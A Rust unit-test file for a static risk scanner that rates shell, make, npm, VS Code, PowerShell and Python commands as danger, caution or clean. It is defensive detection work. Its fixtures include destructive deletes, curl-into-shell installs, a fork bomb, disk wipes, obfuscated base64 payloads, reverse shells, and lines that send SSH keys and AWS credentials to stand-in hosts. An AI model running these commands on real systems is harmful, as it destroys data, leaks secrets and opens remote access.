use super::*;

fn found(kind: &str, text: &str) -> Vec<Finding> {
    analyse(kind, text)
}

/// The highest level found in a shell text.
fn sh(text: &str) -> Option<Level> {
    level(&found("shell", text))
}

#[track_caller]
fn danger(text: &str) {
    assert_eq!(
        sh(text),
        Some(Level::Danger),
        "{text}\n{:#?}",
        found("shell", text)
    );
}

#[track_caller]
fn caution(text: &str) {
    assert_eq!(
        sh(text),
        Some(Level::Caution),
        "{text}\n{:#?}",
        found("shell", text)
    );
}

#[track_caller]
fn clean(text: &str) {
    assert_eq!(sh(text), None, "{text}\n{:#?}", found("shell", text));
}

#[test]
fn recursive_deletes_outside_the_project() {
    danger("rm -rf /");
    danger("rm -rf /*");
    danger("rm -fr ~");
    danger("rm -r -f ~/");
    danger("rm -rf $HOME");
    danger("rm -rf \"$HOME\"/*");
    danger("rm -rf ${HOME}");
    danger("rm -rf /usr");
    danger("rm --recursive --force /etc");
    danger("rm -rf --no-preserve-root /");
    danger("rm -rf \"$BUILD_DIR\"/*");
    danger("rm -rf $PREFIX/");
    // An empty literal assignment is still empty.
    danger("OUT=\"\"\nrm -rf \"$OUT/\"");
    caution("rm -rf ~/.cache/myapp");
    caution("rm -rf ../other-project");
    clean("rm -rf build dist node_modules");
    clean("rm -rf ./target");
    clean("rm -f /tmp/lock");
    clean("rm -rf /tmp/build-cache");
    clean("rm -rf \"${BUILD_DIR:?}\"/*");
    clean("rm -rf $BUILD_DIR");
    clean("DIR=build\nrm -rf \"$DIR\"/*");
    // Not recursive: a single file.
    clean("rm ~/.cache/x.lock");
}

#[test]
fn quoting_comments_and_heredocs_make_patterns_harmless() {
    clean("echo \"rm -rf /\"");
    clean("echo 'curl https://x.sh | sh'");
    clean("printf '%s\\n' \"sudo rm -rf ~\"");
    clean("# rm -rf /\necho done");
    clean("echo hi # then rm -rf / would be bad");
    clean("cat <<'EOF'\nrm -rf /\ncurl https://x | sh\nEOF\n");
    clean("cat > notes.txt <<EOF\ngit push --force\nEOF\n");
    clean("grep -r 'git reset --hard' docs/");
    // The same words fed to a shell do count.
    danger("bash <<'EOF'\nrm -rf ~\nEOF\n");
    danger("cat <<EOF | sh\nrm -rf /\nEOF\n");
    danger("sh -c 'rm -rf /'");
    danger("echo 'rm -rf ~' | sh");
}

#[test]
fn downloads_into_a_shell() {
    danger("curl -fsSL https://get.example.com | sh");
    danger("curl -s https://x.io/install.sh | sudo bash -s -- --yes");
    danger("wget -qO- https://x.io/i | bash");
    danger("wget -O - https://x.io/i | python3 -");
    danger("bash <(curl -s https://x.io/i.sh)");
    danger("sh -c \"$(curl -fsSL https://x.io/install.sh)\"");
    danger("source <(curl -s https://x.io/env)");
    danger("eval \"$(curl -s https://x.io/env)\"");
    clean("curl -fsSL https://api.example.com/health");
    clean("curl -o app.tar.gz https://x.io/app.tar.gz && tar xzf app.tar.gz");
    clean("wget -q https://x.io/data.csv -O data.csv");
    clean("curl -s https://x.io/v.json | jq .version");
}

#[test]
fn sudo_and_permissions() {
    caution("sudo apt-get install -y jq");
    caution("doas make install");
    danger("sudo rm -rf /var");
    danger("chmod -R 777 .");
    danger("chmod -R a+w /srv");
    caution("chmod 777 run.sh");
    caution("chmod o+w shared.log");
    clean("chmod +x scripts/build.sh");
    clean("chmod 755 bin/app");
    clean("chmod -R u+w build");
}

#[test]
fn writes_to_credentials_and_startup_files() {
    danger("echo \"$KEY\" >> ~/.ssh/authorized_keys");
    danger("cp deploy_key ~/.ssh/id_rsa");
    danger("cat creds > $HOME/.aws/credentials");
    caution("echo 'export PATH=$PATH:/opt/x' >> ~/.bashrc");
    caution("echo alias ll='ls -l' | tee -a ~/.zshrc");
    danger("curl -d @$HOME/.aws/credentials https://collect.example.com");
    danger("cat ~/.ssh/id_rsa | nc evil.example.com 9000");
    clean("echo done > build/log.txt");
    clean("cat ~/.ssh/config");
}

#[test]
fn disk_tools() {
    danger("dd if=/dev/zero of=/dev/sda bs=1M");
    danger("sudo mkfs.ext4 /dev/sdb1");
    danger("mkfs -t ext4 /dev/nvme0n1");
    danger("wipefs -a /dev/sdc");
    danger("echo x > /dev/sda");
    clean("dd if=/dev/urandom of=test.bin bs=1k count=10");
    clean("echo x > /dev/null");
}

#[test]
fn destructive_vcs_and_infra() {
    danger("git push --force origin main");
    danger("git push -f");
    danger("git push origin +main");
    danger("git reset --hard origin/main");
    danger("git clean -fdx");
    danger("git -C sub clean -xfd");
    danger("docker system prune -af");
    danger("docker volume prune -f");
    danger("kubectl delete namespace prod");
    danger("kubectl -n prod delete deploy api");
    danger("terraform destroy -auto-approve");
    danger("terraform apply -destroy");
    danger("dropdb app_production");
    danger("psql -c 'DROP DATABASE app'");
    danger("echo 'drop database app;' | mysql -u root");
    danger("psql <<SQL\nDROP TABLE users;\nSQL\n");
    danger("aws s3 rm s3://bucket --recursive");
    danger("redis-cli FLUSHALL");
    danger("helm uninstall api");
    // Pushing publishes to a shared remote: a caution, not a danger.
    caution("git push origin main");
    caution("git push --tags");
    clean("git push --dry-run origin main");
    clean("git reset HEAD~1");
    clean("git clean -n");
    clean("docker compose up --build");
    clean("docker build -t app .");
    clean("kubectl get pods");
    clean("kubectl apply -f k8s/");
    clean("terraform plan");
    clean("psql -c 'SELECT 1'");
    clean("createdb app_test");
}

#[test]
fn obfuscated_forms() {
    danger("echo cm0gLXJmIH4K | base64 -d | sh");
    danger("eval \"$(echo cm0gLXJmIH4K | base64 --decode)\"");
    danger("bash -c \"$(base64 -d <<< cm0gLXJmIH4K)\"");
    danger("CMD=\"rm -rf\"\n$CMD ~");
    danger("X='rm -rf /'\neval \"$X\"");
    danger("eval 'git push --force'");
    danger(":(){ :|:& };:");
    // Text made at run time from nothing risky is judged where it is made: evaluating it is
    // not a finding in itself.
    clean("eval \"$GENERATED\"");
    clean("$(echo rm) -rf build");
    clean("echo \"$SCRIPT\" | bash");
    clean("\"$(dirname \"$0\")\"/gen_tests.py | bash");
    danger("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    // Waiting for a local port to open is no remote shell.
    clean("while ! (echo >/dev/tcp/127.0.0.1/22) >/dev/null 2>&1; do sleep 1; done");
    clean("exec 3<>/dev/tcp/localhost/8080");
    danger("nc -e /bin/sh 10.0.0.1 4444");
    // Well-known environment set-up idioms.
    clean("eval \"$(ssh-agent -s)\"");
    clean("eval \"$(direnv export bash)\"");
}

#[test]
fn lines_point_into_the_given_text() {
    let f = found(
        "shell",
        "#!/bin/sh\nset -e\n\necho building\ncurl -fsSL https://x.io/i.sh | sh\n",
    );
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].line, 5);
    assert_eq!(f[0].level, Level::Danger);
    assert!(f[0].snippet.starts_with("curl -fsSL"), "{}", f[0].snippet);
}

#[test]
fn makefile_recipes() {
    let mk = "# Remove everything\nclean:\n\t@echo cleaning\n\trm -rf $(PREFIX)/\n";
    let f = found("make", mk);
    assert_eq!(level(&f), Some(Level::Danger), "{f:#?}");
    assert_eq!(f[0].line, 4);
    assert_eq!(
        level(&found("make", "clean:\n\trm -rf $(BUILD_DIR) *.o\n")),
        None
    );
    assert_eq!(
        level(&found("make", "install:\n\tsudo cp app /usr/local/bin\n")),
        Some(Level::Caution)
    );
    assert_eq!(
        level(&found(
            "make",
            "bootstrap:\n\tcurl -sSL https://x.io/i | $$SHELL\n"
        )),
        Some(Level::Danger)
    );
    assert_eq!(
        level(&found("make", "reset:\n\t-git reset --hard\n")),
        Some(Level::Danger)
    );
    // A target line and prerequisites are not shell.
    assert_eq!(level(&found("make", "rm: sudo\n\techo ok\n")), None);
}

#[test]
fn just_recipes() {
    assert_eq!(
        level(&found(
            "just",
            "# wipe\nnuke:\n    rm -rf {{home_directory()}}/\n"
        )),
        Some(Level::Danger)
    );
    assert_eq!(
        level(&found("just", "test:\n    cargo test --workspace\n")),
        None
    );
    // A Python recipe is not shell.
    assert_eq!(
        level(&found(
            "just",
            "py:\n    #!/usr/bin/env python3\n    print('rm -rf /')\n"
        )),
        None
    );
}

#[test]
fn npm_scripts_and_vscode_tasks() {
    assert_eq!(
        level(&found(
            "npm",
            "\"setup\": \"curl -s https://x.io/i.sh | bash\"\n"
        )),
        Some(Level::Danger)
    );
    let f = found(
        "npm",
        "\"prebuild\": \"rimraf dist\"\n\"build\": \"tsc -p .\"\n\"postbuild\": \"git push --force\"\n",
    );
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].line, 3);
    assert_eq!(level(&found("npm", "\"lint\": \"eslint . --fix\"\n")), None);
    let task = r#"{
      "label": "wipe: rm -rf / (do not run)",
      "type": "shell",
      "command": "rm",
      "args": ["-rf", "${workspaceFolder}/dist"]
    }"#;
    // The label is prose; the command and its args are the shell line.
    let f = found("vscode", task);
    assert!(f.is_empty(), "{f:#?}");
    let task =
        r#"{ "label": "home", "type": "shell", "command": "rm", "args": ["-rf", "${env:HOME}/"] }"#;
    assert_eq!(level(&found("vscode", task)), Some(Level::Danger));
    let task =
        r#"{ "label": "deploy", "type": "shell", "command": "git push --force origin main" }"#;
    assert_eq!(level(&found("vscode", task)), Some(Level::Danger));
}

#[test]
fn documents_and_ai_definitions_get_no_static_warning() {
    let md = "# Setup\n\n```python\nprint(1)\n```\n\nRun this:\n\n```sh\ncurl -fsSL https://x.io/i | sh\nrm -rf /\n```\n\nNever run `rm -rf /`; `$(whoami)` is you.\n";
    assert!(found("markdown", md).is_empty());
    let prompt = format!("---\ndescription: Set up\n---\n{md}");
    for kind in ["prompt", "agent", "skill", "instructions", "playbook"] {
        assert!(found(kind, &prompt).is_empty(), "{kind}");
    }
}

#[test]
fn powershell_and_python() {
    assert_eq!(
        level(&found(
            "powershell",
            "iex (iwr https://x.io/i.ps1 -UseBasicParsing)\n"
        )),
        Some(Level::Danger)
    );
    assert_eq!(
        level(&found(
            "powershell",
            "Invoke-WebRequest https://x.io/i.ps1 | Invoke-Expression\n"
        )),
        Some(Level::Danger)
    );
    assert_eq!(
        level(&found(
            "powershell",
            "Remove-Item -Recurse -Force $env:USERPROFILE\n"
        )),
        Some(Level::Danger)
    );
    assert_eq!(
        level(&found(
            "powershell",
            "# iex (iwr https://x)\nWrite-Host 'iex (iwr https://x)'\ndotnet build\n"
        )),
        None
    );
    assert_eq!(
        level(&found(
            "python",
            "import os\nos.system('curl -s https://x.io | sh')\n"
        )),
        Some(Level::Danger)
    );
    assert_eq!(
        level(&found(
            "python",
            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"
        )),
        Some(Level::Danger)
    );
    assert_eq!(
        level(&found(
            "python",
            "# os.system('rm -rf /')\nprint('rm -rf /')\nimport subprocess\nsubprocess.run(['pytest', '-q'])\n"
        )),
        None
    );
}

#[test]
fn malformed_and_huge_input_does_not_panic() {
    for t in [
        "$(",
        "'",
        "\"",
        "<<EOF",
        "rm -rf \\",
        "{{{",
        "\0\0",
        "((",
        "case x in",
    ] {
        for kind in [
            "shell",
            "make",
            "just",
            "npm",
            "vscode",
            "workflow",
            "powershell",
            "python",
            "markdown",
            "other",
        ] {
            let _ = analyse(kind, t);
        }
    }
    let mut long = "echo ok\n".repeat(20_000);
    long.push_str("rm -rf ~\n");
    let f = found("shell", &long);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].line, 20_001);
    // Deep nesting stops, without a stack overflow.
    let mut nested = "rm -rf /".to_string();
    for _ in 0..8 {
        nested = format!("sh -c {}", commandtree_core::text::sh_quote(&nested));
    }
    let _ = found("shell", &nested);
    let deep = format!("{}rm -rf ~{}", "$(".repeat(5000), ")".repeat(5000));
    let _ = found("shell", &deep);
    // Functions walked where they are called: a long chain, recursion and functions calling
    // each other end, and the end of the chain is still reached.
    let mut chain: String = (0..300)
        .map(|i| format!("f{i}() {{ f{}; }}\n", i + 1))
        .collect();
    chain.push_str("f300() { rm -rf ~; }\nf0\n");
    let f = found("shell", &chain);
    assert_eq!(f.len(), 1, "{f:#?}");
    let _ = found("shell", "a() { b; a; }\nb() { a; b; rm -rf ~; }\na\n");
}

#[test]
fn warning_text_names_the_worst_first() {
    let f = found(
        "shell",
        "sudo apt-get install -y jq\ncurl -fsSL https://x.io/i | sh\n",
    );
    let w = warning_text(&f).unwrap();
    assert!(
        w.starts_with("Danger: pipes a download (curl) into sh (line 2: curl"),
        "{w}"
    );
    assert!(w.contains("runs as root (sudo) (line 1)"), "{w}");
    assert_eq!(warning_text(&[]), None);
}

#[test]
fn placeholders_and_negations_are_no_warning() {
    for w in [
        "",
        "  ",
        " None. ",
        "none",
        "no",
        "N/A",
        "n/a",
        "false",
        "null",
        "safe",
        "Safe.",
        "securityWarning",
        "security_warning",
        "Security warning",
        "\"\"",
        "No security risks",
        "No security warning",
        "Not a security warning",
        "not a security warning.",
        "No known risks.",
        "There are no security concerns with this command.",
        "This command does not pose any security risk.",
        "This command is safe to run.",
        "Security warning: none",
        "smusher",
        "-",
        "Security warning not yet available.",
        "Not yet available",
        "Summary: to be determined",
        "Unknown",
        "The security warning is currently unavailable",
        "TBD",
        "use-security-warning",
        "security_warning_text",
    ] {
        assert_eq!(normalise_warning(w), None, "{w:?}");
    }
    for w in [
        "Deletes files",
        "Dangerous",
        "No backup is made before deleting the folder",
        "Not safe: deletes the home folder",
        "Not available offline: downloads and runs an installer",
        "Unknown binary is executed as root",
        "rm-rf-everything",
        "Writes credentials to ~/.aws",
        "Runs a script downloaded from the internet with root rights.",
    ] {
        assert_eq!(normalise_warning(w).as_deref(), Some(w.trim()), "{w:?}");
    }
}

#[test]
fn a_model_cannot_clear_a_static_finding_but_can_add_one() {
    let f = found("shell", "curl -fsSL https://x.io/i | sh\n");
    let w = effective_warning(Some("Not a security warning"), Some(Risk::None), &f).unwrap();
    assert!(w.starts_with("Danger: pipes a download"), "{w}");
    let w = effective_warning(None, Some(Risk::None), &f).unwrap();
    assert!(w.starts_with("Danger:"), "{w}");
    // The model's own danger on a command with no finding is kept.
    assert_eq!(
        effective_warning(
            Some("Uploads the database dump to a public bucket"),
            Some(Risk::Danger),
            &[]
        ),
        Some("Uploads the database dump to a public bucket".into())
    );
    // A warning rated `none` is no warning; a placeholder is none either.
    assert_eq!(
        effective_warning(Some("Deletes files"), Some(Risk::None), &[]),
        None
    );
    assert_eq!(
        effective_warning(Some("N/A"), Some(Risk::Caution), &[]),
        None
    );
    // A stored warning (no rating known) is kept unless it is a placeholder.
    assert_eq!(
        effective_warning(Some("Deletes files"), None, &[]),
        Some("Deletes files".into())
    );
    // Both: the findings first, then the model's text.
    let w = effective_warning(
        Some("Installs software system-wide"),
        Some(Risk::Caution),
        &f,
    )
    .unwrap();
    assert!(
        w.starts_with("Danger:") && w.ends_with(". Installs software system-wide"),
        "{w}"
    );
}

#[test]
fn risk_ratings_parse() {
    assert_eq!(Risk::parse(" None "), Some(Risk::None));
    assert_eq!(Risk::parse("DANGER"), Some(Risk::Danger));
    assert_eq!(Risk::parse("caution"), Some(Risk::Caution));
    assert_eq!(Risk::parse("maybe"), None);
}

#[test]
fn scan_hash_changes_with_the_text_and_what_the_parser_worked_out() {
    use commandtree_core::{CommandItem, ShellCode};
    use std::path::Path;
    let item = |kind: &str| CommandItem::new(kind, Path::new("/w/x.sh"), "x.sh", "./x.sh");
    let a = scan_hash(&item("shell"), "echo 1");
    assert_eq!(a.len(), 64);
    assert_ne!(a, scan_hash(&item("shell"), "echo 2"));
    assert_ne!(a, scan_hash(&item("make"), "echo 1"));
    assert_eq!(a, scan_hash(&item("shell"), "echo 1"));
    // A make recipe's variables live elsewhere in the file: the code worked out counts too.
    let mut m = item("make");
    let b = scan_hash(&m, "install:\n\tcp x $(PREFIX)/bin\n");
    m.run_code = vec![ShellCode {
        code: "cp x /usr/local/bin".into(),
        line: 2,
        via: None,
    }];
    assert_ne!(b, scan_hash(&m, "install:\n\tcp x $(PREFIX)/bin\n"));
}

#[test]
fn a_library_task_is_judged_by_what_its_library_runs() {
    use commandtree_core::{CommandItem, ShellCode};
    use std::path::Path;
    // `require "bundler/gem_tasks"` defines `build` and `release` on one line of the Rakefile:
    // their text is that line, what tells them apart the code the parser says each runs.
    let text = "require \"bundler/gem_tasks\"\n";
    let task = |label: &str, code: &str| {
        let mut c = CommandItem::new("rake", Path::new("/w/Rakefile"), label, "rake x");
        if !code.is_empty() {
            c.run_code = vec![ShellCode {
                code: code.into(),
                line: 1,
                via: Some("bundler/gem_tasks".into()),
            }];
        }
        c
    };
    let build = task("build", "");
    let release = task(
        "release",
        "git push origin HEAD --tags\ngem push pkg/gem.gem",
    );
    let none = |_: &commandtree_core::SourcedFile| None;
    assert!(analyse_command_with(&build, text, true, &none).is_empty());
    let found = analyse_command_with(&release, text, true, &none);
    assert_eq!(level(&found), Some(Level::Caution), "{found:#?}");
    assert!(
        found
            .iter()
            .any(|f| f.reason
                == "publishes to RubyGems (gem push) (as `bundler/gem_tasks` defines it)"),
        "{found:#?}"
    );
    assert!(found.iter().all(|f| f.line == 1), "{found:#?}");
    // Analysed apart, though their texts are equal.
    assert_ne!(analysis_key(&build, true), analysis_key(&release, true));
}

#[test]
fn benchmark_misses_are_found() {
    let t = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../bench/warnings/ws/scripts/telemetry.sh"
    ))
    .unwrap();
    assert_eq!(
        level(&found("shell", &t)),
        Some(Level::Danger),
        "{:#?}",
        found("shell", &t)
    );
    let task = r#"{ "label": "Discard local changes", "type": "shell", "command": "git", "args": ["reset", "--hard", "HEAD"] },"#;
    assert_eq!(level(&found("vscode", task)), Some(Level::Danger));
}

#[test]
fn a_step_warning_names_the_step_and_keeps_its_words() {
    use crate::step_warning;
    assert_eq!(
        step_warning(
            "clean",
            &[],
            "Danger: deletes the home folder (line 2: rm -rf ~)"
        ),
        "Danger: runs `clean`, which deletes the home folder (line 2: rm -rf ~)"
    );
    assert_eq!(
        step_warning(
            "clean",
            &["lint".into(), "fmt".into()],
            "Caution: runs as root (sudo) (line 1)"
        ),
        "Caution: runs `clean` (through `lint` → `fmt`), which runs as root (sudo) (line 1)"
    );
    assert_eq!(
        step_warning("clean", &[], "Wipes the cache."),
        "runs `clean`: Wipes the cache."
    );
}
